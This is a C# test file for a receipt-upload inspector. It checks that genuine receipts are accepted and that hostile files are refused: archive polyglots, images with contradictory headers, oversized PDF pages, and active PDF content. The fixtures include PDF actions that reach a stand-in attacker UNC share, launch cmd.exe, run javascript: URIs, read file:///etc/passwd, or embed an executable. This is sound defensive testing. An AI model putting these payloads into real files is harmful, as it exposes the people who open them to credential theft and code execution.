using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using CleanLedger.Application.Documents;
using CleanLedger.Infrastructure.Documents;
using CleanLedger.Testing;
using Microsoft.Extensions.Options;

namespace CleanLedger.Infrastructure.Tests.Documents;

/// <summary>
/// The upload check on real receipts (all accepted) and on the classes of hostile file: archives
/// hidden anywhere, headers that say two things, PDF pages too large to render, active content.
/// </summary>
public sealed class FileInspectorTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("cleanledger-inspect-").FullName;
    private readonly FileInspector _inspector = new(Options.Create(new DocumentOptions()), Options.Create(new ImageBudget()), DocumentWork.Gate());

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    public static TheoryData<string> DevReceipts() =>
        [.. new[] { SharedData.RealReceipts, SharedData.SwedishReceiptsFolder }
            .SelectMany(folder => Directory.EnumerateFiles(folder).Where(file => !file.EndsWith(".jsonl", StringComparison.Ordinal)))
            .Select(file => Path.GetRelativePath(SharedData.Folder, file)).Order(StringComparer.Ordinal)];

    [Theory]
    [MemberData(nameof(DevReceipts))]
    public async Task Every_receipt_of_the_dev_sets_is_accepted(string file)
    {
        var bytes = await File.ReadAllBytesAsync(Path.Combine(SharedData.Folder, file));

        var inspected = await InspectAsync(bytes);

        inspected.ContentType.ShouldBe(Path.GetExtension(file) switch { ".pdf" => "application/pdf", ".png" => "image/png", _ => "image/jpeg" });
    }

    public static TheoryData<string, string> Polyglots()
    {
        var data = new TheoryData<string, string>();
        foreach (var carrier in new[] { "jpeg-comment", "jpeg-after-end-then-end-again", "png-chunk", "pdf-comment" })
        {
            foreach (var archive in new[] { "zip", "zip-entries-only", "zip-end-record-only", "rar4", "rar5", "7z" })
                data.Add(carrier, archive);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(Polyglots))]
    public async Task A_receipt_carrying_an_archive_anywhere_is_refused(string carrier, string archive)
    {
        var payload = Archive(archive);
        var jpeg = await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0001.jpg"));
        var png = await File.ReadAllBytesAsync(SharedData.SwedishReceipts("png").First());
        var pdf = await File.ReadAllBytesAsync(SharedData.SwedishReceipts("pdf").First());
        byte[] polyglot = carrier switch
        {
            // A comment segment (FF FE, length) right after the start of image: a valid JPEG with the archive in its middle.
            "jpeg-comment" => [.. jpeg[..2], 0xFF, 0xFE, (byte)((payload.Length + 2) >> 8), (byte)(payload.Length + 2), .. payload, .. jpeg[2..]],
            "jpeg-after-end-then-end-again" => [.. jpeg, .. payload, 0xFF, 0xD9],
            "png-chunk" => [.. png[..33], .. BigEndian(payload.Length), .. "prVt"u8, .. payload, 0, 0, 0, 0, .. png[33..]],
            "pdf-comment" => [.. pdf[..9], .. "%"u8, .. payload, .. "\n"u8, .. pdf[9..]],
            _ => throw new ArgumentOutOfRangeException(nameof(carrier)),
        };

        (await RefusalAsync(polyglot)).Code.ShouldBe("file.polyglot");
    }

    public static TheoryData<string> Contradictions() => ["tiff-width-twice-large-first", "tiff-width-twice-small-first", "png-two-headers", "jpeg-two-frames"];

    [Theory]
    [MemberData(nameof(Contradictions))]
    public async Task An_image_whose_headers_give_two_sizes_is_refused(string sample)
    {
        var bytes = sample switch
        {
            "tiff-width-twice-large-first" => HostileImages.Tiff((12_000, 12_000), (100, 100)),
            "tiff-width-twice-small-first" => HostileImages.Tiff((100, 100), (12_000, 12_000)),
            "png-two-headers" => HostileImages.PngWithSecondHeader(await File.ReadAllBytesAsync(SharedData.SwedishReceipts("png").First()), 12_000, 12_000),
            "jpeg-two-frames" => HostileImages.JpegWithSecondFrame(await File.ReadAllBytesAsync(SharedData.SwedishReceipt("receipt_0001.jpg")), 100, 100),
            _ => throw new ArgumentOutOfRangeException(nameof(sample)),
        };

        (await RefusalAsync(bytes)).Code.ShouldBe("image.contradictory");
    }

    [Fact]
    public async Task A_tiff_with_one_size_per_tag_is_accepted_and_a_later_page_over_the_budget_is_not()
    {
        var plain = HostileImages.Tiff((100, 100));

        (await InspectAsync(plain)).ShouldSatisfyAllConditions(
            inspected => inspected.Width.ShouldBe(100),
            inspected => inspected.Height.ShouldBe(100));
        // A second directory (page) of 12,000 × 12,000 chained after the first.
        var second = HostileImages.Tiff((12_000, 12_000));
        var chained = (byte[])plain.Clone();
        var nextDirectoryAt = 8 + 2 + (BitConverter.ToUInt16(plain, 8) * 12);
        BitConverter.GetBytes((uint)plain.Length).CopyTo(chained, nextDirectoryAt);
        (await RefusalAsync([.. chained, .. Rebased(second, plain.Length)])).Code.ShouldBe("image.too_large");
    }

    public static TheoryData<string> PagesTooLarge() =>
        ["/MediaBox [0 0 14400 14400]", "/MediaBox [0 0 200 200] /UserUnit 75000", "/MediaBox [-7200 -7200 7200 7200] /CropBox [-7000 -7000 7000 7000]", "/MediaBox 4 0 R"];

    [Theory]
    [MemberData(nameof(PagesTooLarge))]
    public async Task A_pdf_page_too_large_for_the_budget_even_at_the_lowest_resolution_is_refused(string pageBox)
    {
        var pdf = HostilePdf.OnePage(pageBox, "", "[0 0 14400 14400]");

        (await RefusalAsync(pdf)).Code.ShouldBe("pdf.page_too_large");
    }

    [Fact]
    public async Task A_page_box_inherited_from_the_page_tree_counts_and_so_does_every_page_not_only_the_first()
    {
        var inherited = HostilePdf.Build([
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 14400 14400] >>", "<< /Type /Page /Parent 2 0 R >>"]);
        var secondPage = HostilePdf.Build([
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] >>"]);

        (await RefusalAsync(inherited)).Code.ShouldBe("pdf.page_too_large");
        (await RefusalAsync(secondPage)).Code.ShouldBe("pdf.page_too_large");
    }

    [Theory]
    [InlineData("/MediaBox [0 0 2400 2400]")]
    [InlineData("/MediaBox [0 0 14400 14400] /CropBox [0 0 595 842]")]
    [InlineData("/MediaBox [0 0 227 5669]")]
    public async Task A_pdf_page_that_fits_the_budget_at_a_lower_resolution_is_accepted(string pageBox)
    {
        (await InspectAsync(HostilePdf.OnePage(pageBox))).Pages.ShouldBe(1);
    }

    /// <summary>Each kind as "catalog entries|page entries|object 4|object 5".</summary>
    public static TheoryData<string, string> ActiveContent() => new()
    {
        { "gotor-unc", @"/OpenAction 4 0 R||<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>" },
        { "gotoe", "/OpenAction 4 0 R||<< /S /GoToE /T << /R /C /N (a.pdf) >> >>" },
        { "launch", "/OpenAction 4 0 R||<< /S /Launch /F (cmd.exe) >>" },
        { "uri-javascript", @"/OpenAction 4 0 R||<< /S /URI /URI (javascript:app.alert\(1\)) >>" },
        { "uri-javascript-after-spaces", "/OpenAction 4 0 R||<< /S /URI /URI (  JavaScript:alert) >>" },
        { "uri-javascript-hex", "/OpenAction 4 0 R||<< /S /URI /URI <6A617661736372697074> >>" },
        { "uri-file", "/OpenAction 4 0 R||<< /S /URI /URI (file:///etc/passwd) >>" },
        { "uri-unc", @"/OpenAction 4 0 R||<< /S /URI /URI (\\\\attacker\\share) >>" },
        { "uri-indirect", "/OpenAction 4 0 R||<< /S /URI /URI 5 0 R >>|(javascript:alert)" },
        { "uri-link-annotation", "|/Annots [4 0 R]|<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file://attacker/share) >> >>" },
        { "rendition", "/OpenAction 4 0 R||<< /S /Rendition /OP 0 >>" },
        { "rich-media", "|/Annots [4 0 R]|<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>" },
        { "submit-form", "/OpenAction 4 0 R||<< /S /SubmitForm /F (https://example.com/collect) >>" },
        { "import-data", "/OpenAction 4 0 R||<< /S /ImportData /F (data.fdf) >>" },
        { "javascript-name-tree", "/Names << /JavaScript 4 0 R >>||<< /Names [(a) 5 0 R] >>|<< /S /JavaScript /JS (app.alert\\(1\\)) >>" },
        { "javascript-escaped-name", "/OpenAction 4 0 R||<< /S /Java#53cript /J#53 (1) >>" },
        { "page-open-action", "|/AA << /O 4 0 R >>|<< /S /JavaScript /JS (1) >>" },
        { "embedded-files", "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>||<< /Type /Filespec /F (a.exe) >>" },
        { "embedded-file-stream", "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>||<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>|<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream" },
        { "file-attachment", "|/Annots [4 0 R]|<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] >>" },
        { "sound", "/OpenAction 4 0 R||<< /S /Sound /Sound 5 0 R >>|<< /Length 0 >>\nstream\n\nendstream" },
        { "movie", "|/Annots [4 0 R]|<< /Type /Annot /Subtype /Movie /Rect [0 0 10 10] >>" },
        { "xfa", "/AcroForm << /Fields [] /XFA 4 0 R >>||<< /Length 0 >>\nstream\n\nendstream" },
    };

    [Theory]
    [MemberData(nameof(ActiveContent))]
    public async Task A_pdf_with_active_content_of_any_kind_is_refused(string kind, string parts)
    {
        var (catalog, page, objects) = (parts.Split('|')[0], parts.Split('|')[1], parts.Split('|')[2..]);

        var refusal = await RefusalAsync(HostilePdf.OnePage($"/MediaBox [0 0 200 200] {page}", catalog, [.. objects]));

        refusal.Code.ShouldBe("pdf.active_content", kind);
    }

    [Theory]
    [InlineData("(https://www.ica.se/kvitto)")]
    [InlineData("(http://example.se)")]
    [InlineData("(mailto:kundtjanst@example.se)")]
    public async Task A_pdf_with_a_plain_web_or_mail_link_is_accepted(string target)
    {
        var pdf = HostilePdf.OnePage("/MediaBox [0 0 200 200] /Annots [4 0 R]", "",
            $"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI {target} >> >>");

        (await InspectAsync(pdf)).Pages.ShouldBe(1);
    }

    private static byte[] Archive(string kind)
    {
        var zip = ZipOf("payload.txt", "not a receipt");
        var centralDirectory = zip.AsSpan().IndexOf("PK\x01\x02"u8);
        return kind switch
        {
            "zip" => zip,
            "zip-entries-only" => zip[..centralDirectory],
            "zip-end-record-only" => zip[centralDirectory..],
            "rar4" => [.. "Rar!\x1A\x07\x00"u8, .. RandomNumberGenerator.GetBytes(64)],
            "rar5" => [.. "Rar!\x1A\x07\x01\x00"u8, .. RandomNumberGenerator.GetBytes(64)],
            "7z" => [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04, .. RandomNumberGenerator.GetBytes(64)],
            _ => throw new ArgumentOutOfRangeException(nameof(kind)),
        };
    }

    private static byte[] ZipOf(string name, string content)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        using (var writer = new StreamWriter(zip.CreateEntry(name).Open(), Encoding.UTF8))
            writer.Write(content);
        return buffer.ToArray();
    }

    private static byte[] BigEndian(int value) => [(byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value];

    /// <summary>A one-directory TIFF without its 8-byte file header, its directory placed at <paramref name="offset"/> of a larger file: the strip offset shifted.</summary>
    private static byte[] Rebased(byte[] tiff, int offset)
    {
        var moved = tiff[8..];
        var entries = BitConverter.ToUInt16(tiff, 8);
        for (var i = 0; i < entries; i++)
        {
            var at = 2 + (i * 12);
            if (BitConverter.ToUInt16(moved, at) == 273)
                BitConverter.GetBytes(BitConverter.ToUInt32(moved, at + 8) + (uint)offset - 8).CopyTo(moved, at + 8);
        }

        return moved;
    }

    private async Task<InspectedFile> InspectAsync(byte[] bytes)
    {
        var path = Path.Combine(_folder, Guid.NewGuid().ToString("N"));
        await File.WriteAllBytesAsync(path, bytes);
        return await _inspector.InspectAsync(new IncomingFile(path, "kvitto", null, bytes.Length, Convert.ToHexStringLower(SHA256.HashData(bytes))), CancellationToken.None);
    }

    private async Task<UploadRejectedException> RefusalAsync(byte[] bytes) => await Should.ThrowAsync<UploadRejectedException>(() => InspectAsync(bytes));
}
